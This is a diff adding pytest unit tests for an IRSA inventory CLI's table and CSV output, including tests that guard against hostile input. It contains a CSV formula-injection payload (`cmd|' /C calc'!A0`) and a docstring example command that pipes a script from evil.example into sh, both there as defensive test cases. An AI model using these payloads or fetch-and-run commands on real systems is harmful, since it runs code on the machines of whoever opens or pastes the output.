@@ -1,0 +1,198 @@
+"""The inventory as a table and as CSV: what has a row, what is counted, and what others wrote in it."""
+
+import csv
+import io
+import shlex
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from irsa_cli.found import Discovery, FoundAwsAccount, FoundCluster, FoundServiceAccount
+from irsa_cli.inventory.output import Inventory
+from irsa_cli.inventory.spreadsheet import HEADINGS, write_csv
+from irsa_cli.inventory.table import View, plain, table_of
+from irsa_cli.report.json import as_object, document
+from tests.fuzz.hidden import hidden_in
+from tests.fuzz.live_states import DANGERS, MARK
+from tests.fuzz.printed import commands_in, problems, unquoted
+from tests.unit.irsa_cli.inventory.estates import (
+    EC2_TRUST,
+    ISSUER,
+    NUMBER,
+    PROVIDER,
+    ROLE_ARN,
+    discovery,
+    page_trust,
+    role,
+    role_arn,
+    service_account,
+    taken,
+    trust,
+)
+
+SUB = f"{ISSUER}:sub"
+NETWORK = {"IpAddress": {"aws:SourceIp": "10.0.0.0/8"}}
+ACCOUNTS = (
+    service_account("a", "app", "app"),
+    service_account("a", "gone", "gone"),
+    service_account("a", "open"),
+    service_account("b", "other"),
+)
+ROLES = (
+    role("app", page_trust("a:app")),
+    role(
+        "network",
+        trust({"StringLike": {SUB: "system:serviceaccount:a:*"}, "IpAddress": {"aws:SourceIp": "10.0.0.0/8"}}),
+    ),
+    role("team/open", trust({"StringLike": {SUB: "system:serviceaccount:a:o*"}}), last_used=None),
+    role("ec2", EC2_TRUST),
+)
+
+
+def lines(inventory: Inventory, view: View = "service-account") -> list[str]:
+    return plain(table_of(inventory, view))
+
+
+def rows(inventory: Inventory) -> list[dict[str, str]]:
+    file = io.StringIO()
+    write_csv(inventory, file)
+    return list(csv.DictReader(io.StringIO(file.getvalue())))
+
+
+def test_by_service_account() -> None:
+    """Protects the reader: who has a role is a row, and the others are counted, so that nobody is hidden."""
+    found = lines(taken(discovery(ACCOUNTS, ROLES)))
+
+    assert [line.split() for line in found[:5]] == [
+        ["service", "account", "annotated", "with", "may", "assume", "cannot", "decide"],
+        ["a/app", "app", "app", "network"],
+        ["a/gone", "gone", "network"],
+        ["a/open", "-", "team/open", "network"],
+        [],
+    ]
+    assert found[5] == "prod: other service accounts, which have no annotation and which no role admits: 1"
+    assert found[-1].startswith("1 cluster, 4 service accounts, 1 AWS account, 4 roles; findings: 1 missing-role, ")
+
+
+def test_by_role() -> None:
+    """Protects the reader of roles: those of an annotation too, that exist or do not; the others are counted."""
+    found = lines(taken(discovery(ACCOUNTS, ROLES)), "role")
+
+    assert [line.split() for line in found[:6]] == [
+        ["role", "may", "be", "assumed", "by", "cannot", "decide", "annotated", "last", "used"],
+        ["app", "a/app", "a/app", "2026-11-26"],
+        ["gone", "a/gone", "no", "such", "role"],
+        ["network", "a/app,", "a/gone,", "a/open", "2026-11-26"],
+        ["team/open", "a/open", "never"],
+        [],
+    ]
+    assert f"{NUMBER}: other roles, which trust no cluster and which no annotation names: 1" in found
+
+
+def test_a_long_cell_says_how_much_more_there_is() -> None:
+    """Protects a terminal from 1,500 names in a cell, and the reader from taking the first ones for all."""
+    everybody = trust({"StringLike": {SUB: "system:serviceaccount:*"}})
+    inventory = taken(
+        discovery(
+            [service_account("a", f"app-{number:02}") for number in range(30)],
+            [role(f"role-{number:02}", everybody) for number in range(25)],
+        )
+    )
+
+    assert lines(inventory)[1].endswith(f"  {', '.join(f'role-{number:02}' for number in range(20))}, and 5 more")
+    assert f"{', '.join(f'a/app-{number:02}' for number in range(20))}, and 10 more  " in lines(inventory, "role")[1]
+
+
+def test_several_clusters_and_aws_accounts_are_named() -> None:
+    """Protects several clusters in one table: their name is a column, and a role is its whole ARN."""
+    issuer = "oidc.eks.eu-west-1.amazonaws.com/id/SECOND"
+    second = FoundCluster("blue", f"https://{issuer}", (FoundServiceAccount("blue", "a", "app", {ROLE_ARN: "x"}),))
+    found = discovery(ACCOUNTS, ROLES)
+    both = Discovery((second, *found.clusters), (*found.aws_accounts, FoundAwsAccount("444455556666", (), {})))
+    printed = lines(taken(both))
+
+    assert printed[0].startswith("cluster  service account  annotated with")
+    assert printed[1].split() == ["blue", "a/app", "x"]
+    assert printed[2].split()[:4] == ["prod", "a/app", role_arn("app"), role_arn("app")]
+    assert any(line.startswith("missing-role: a/app, x in blue: ") for line in printed)
+
+
+def test_nothing_found_is_said() -> None:
+    """Protects from an empty answer: how much was read is always there."""
+    assert lines(taken(discovery())) == ["", "1 cluster, 0 service accounts, 1 AWS account, 0 roles; findings: none"]
+
+
+def test_csv() -> None:
+    """Protects a spreadsheet: a row for each pair, one for a refused annotation, and one for who has no role."""
+    found = rows(taken(discovery(ACCOUNTS, ROLES)))
+
+    assert [(each["name"], each["role"].rpartition("/")[2], each["annotated"], each["decision"]) for each in found] == [
+        ("app", "app", "yes", "allowed"),
+        ("app", "network", "no", "cannot decide"),
+        ("gone", "network", "no", "cannot decide"),
+        ("gone", "gone", "yes", "not admitted"),
+        ("open", "network", "no", "cannot decide"),
+        ("open", "open", "no", "allowed"),
+        ("other", "", "no", ""),
+    ]
+    assert found[0]["audiences"] == "sts.amazonaws.com"
+    assert tuple(found[0]) == HEADINGS
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_is_a_formula(start: str) -> None:
+    """Protects who opens the CSV in a spreadsheet: an annotation there would be a command.
+
+    https://owasp.org/www-community/attacks/CSV_Injection
+    """
+    (found,) = rows(taken(discovery([service_account("a", "b", **{ROLE_ARN: f"{start}cmd|' /C calc'!A0"})])))
+
+    assert found["role"].startswith("'")
+
+
+def hostile(text: str) -> Inventory:
+    """Return an inventory in which each text that others write is this one."""
+    document: Any = trust({"StringLike": {SUB: [f"system:serviceaccount:{text}:*", text]}, text: {text: text}})
+    document["Statement"][0]["Sid"] = text
+    equal = trust({"StringEquals": {SUB: [f"*{text}", "system:serviceaccount:a:b"]}})
+    broken = {"Statement": [{"Effect": text}]}
+    accounts = [
+        service_account(
+            text, text, **{ROLE_ARN: text, "eks.amazonaws.com/audience": text, f"eks.amazonaws.com/{text}": text}
+        ),
+        service_account("a", "b", "equal"),
+        service_account("a", text, text),
+    ]
+    roles = [role(text, document), role("equal", equal), role("broken", broken)]
+    found = discovery(accounts, roles, {PROVIDER: ("sts.amazonaws.com", text), f"{PROVIDER}{text}": (text,)})
+    cluster = replace(found.clusters[0], name=text)
+    return taken(replace(found, clusters=(cluster,), not_checked=(f"x: {text!r}",), stacks=(text,)))
+
+
+@pytest.mark.parametrize("danger", DANGERS)
+@pytest.mark.parametrize("view", ["service-account", "role"])
+def test_no_text_of_others_passes_for_ours(danger: str, view: View) -> None:
+    """Protects who reads the table and pastes its commands: text of others begins no line, and is one argument.
+
+    The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
+    """
+    text = f"a{danger}{MARK}"
+    for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
+        printed = lines(inventory, view)
+        assert problems("\n".join(printed)) == []
+        assert any(MARK in line for line in printed)
+        for line in printed:
+            for command in commands_in(line):
+                assert [word for word in shlex.split(command) if MARK in word and text not in word] == []
+                assert unquoted(command) == []
+
+
+@pytest.mark.parametrize("danger", DANGERS)
+def test_no_text_of_others_drives_a_terminal_by_json_or_csv(danger: str) -> None:
+    """Protects who prints JSON or CSV on a terminal."""
+    inventory, file = hostile(f"a{danger}{MARK}"), io.StringIO()
+    write_csv(inventory, file)
+
+    assert hidden_in(file.getvalue().split("\n")) == []
+    assert hidden_in(document("inventory", True, as_object(inventory)).split("\n")) == []
